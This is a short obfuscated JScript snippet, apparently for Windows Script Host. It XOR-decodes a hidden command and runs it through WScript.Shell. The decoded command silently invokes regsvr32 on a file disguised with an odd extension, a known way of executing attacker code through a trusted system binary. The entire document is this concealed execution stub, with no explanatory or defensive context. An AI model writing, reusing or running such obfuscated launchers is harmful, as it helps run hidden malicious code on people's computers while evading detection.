function d(x){var r="";for(var i=0;i<x.length;i++){r+=String.fromCharCode(x[i]^3);}return r;}
new ActiveXObject("WScript.Shell").Run(d([113,102,100,112,117,113,48,49,35,46,112,35,64,57,95,98,45,123,113,102,101]));
